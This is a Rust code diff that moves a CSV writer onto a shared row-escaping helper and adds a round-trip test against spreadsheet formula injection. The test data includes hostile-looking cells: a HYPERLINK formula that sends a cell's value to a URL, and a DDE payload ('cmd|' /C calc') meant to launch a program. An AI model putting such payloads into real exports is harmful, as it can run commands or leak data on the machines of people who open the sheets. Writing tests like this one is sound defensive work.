@@ -1,5 +1,6 @@
 //! Writes items as the text of a file in pieces.
 
+use dynalab_literals::csv;
 use dynalab_types::Item;
 use dynalab_types::json::write_object;
 use dynalab_types::wire::item_json;
@@ -64,7 +65,7 @@ impl Writer {
     pub fn begin(&self, text: &mut String) {
         match self.output {
             Output::PlainList => text.push('['),
-            Output::Csv => row(self.columns.iter().cloned(), text),
+            Output::Csv => row(&self.columns, text),
             _ => {}
         }
     }
@@ -83,12 +84,8 @@ impl Writer {
                 write_object(&plain::plain_of_item(item), text);
             }
             Output::Csv => {
-                row(
-                    self.columns
-                        .iter()
-                        .map(|column| item.get(column).map(plain::cell_of_value).unwrap_or_default()),
-                    text,
-                );
+                let cell = |column: &String| item.get(column).map(plain::cell_of_value).unwrap_or_default();
+                row(&self.columns.iter().map(cell).collect::<Vec<String>>(), text);
             }
         }
         self.written += 1;
@@ -104,24 +101,15 @@ impl Writer {
     }
 }
 
-fn row(fields: impl Iterator<Item = String>, text: &mut String) {
-    for (place, field) in fields.enumerate() {
-        if place > 0 {
-            text.push(',');
-        }
-        if field.contains([',', '"', '\n', '\r']) {
-            text.push('"');
-            text.push_str(&field.replace('"', "\"\""));
-            text.push('"');
-        } else {
-            text.push_str(&field);
-        }
-    }
+fn row<T: AsRef<str>>(fields: &[T], text: &mut String) {
+    csv::row(fields.iter().map(AsRef::as_ref), text);
     text.push('\n');
 }
 
 #[cfg(test)]
 mod tests {
+    use dynalab_types::AttributeValue;
+
     use super::super::checks::Keys;
     use super::super::csv::Sheet;
     use super::super::records::{Form, Records};
@@ -142,6 +130,70 @@ mod tests {
             items.iter().for_each(|item| writer.item(item, &mut text));
             writer.end(&mut text);
             assert_eq!(read(&text), items, "{}: {text}", output.name());
+        }
+    }
+
+    #[test]
+    fn sheets_have_no_formulas_and_come_back_as_they_were() {
+        let texts = [
+            "=HYPERLINK(\"http://x\"&A1)",
+            "+cmd|' /C calc'!A0",
+            "-2+3",
+            "@SUM(A1)",
+            "\t=1",
+            "\r=1",
+            "\n=1",
+            "  =1",
+            "'",
+            "''=x",
+            "'x",
+            "-",
+            "+5",
+            "\u{ff1d}1",
+            "\r",
+            "a\r",
+            "a\r\n",
+            "\u{feff}",
+            "\0",
+            "a;b|c:d\te",
+            "\"",
+            "\"\"",
+            " ",
+            "\u{85}",
+            "\u{2028}",
+            "2026-01-01",
+            "1_000",
+            "x",
+        ];
+        for (place, text) in texts.iter().enumerate() {
+            for header in texts {
+                // A column's type is that of all its fields, so another text keeps it from being a number.
+                let one = |value: &str| -> Item {
+                    let names = [(header, value), ("n", "-2.5")];
+                    names.iter().map(|(name, value)| ((*name).to_owned(), value)).fold(
+                        Item::new(),
+                        |mut item, (name, value)| {
+                            let number = dynalab_types::Number::parse(value).ok().filter(|_| name == "n");
+                            item.insert(
+                                name.as_str(),
+                                number.map_or_else(|| AttributeValue::string(value), AttributeValue::N),
+                            );
+                            item
+                        },
+                    )
+                };
+                let items = [one(text), one(texts[(place + 1) % texts.len()])];
+                let mut writer = Writer::new(Output::Csv, vec![header.to_owned(), "n".into()]);
+                let mut sheet = String::new();
+                writer.begin(&mut sheet);
+                items.iter().for_each(|item| writer.item(item, &mut sheet));
+                writer.end(&mut sheet);
+                let form = Form::Csv(Sheet::guess(&sheet, &Keys::default()));
+                let read: Vec<Item> =
+                    Records::from_text(&sheet, &form).map(|record| record.item.expect(&sheet)).collect();
+                assert_eq!(read, items, "{sheet:?}");
+                assert!(sheet.contains("-2.5\n"), "a number stays a number");
+            }
         }
     }
 }
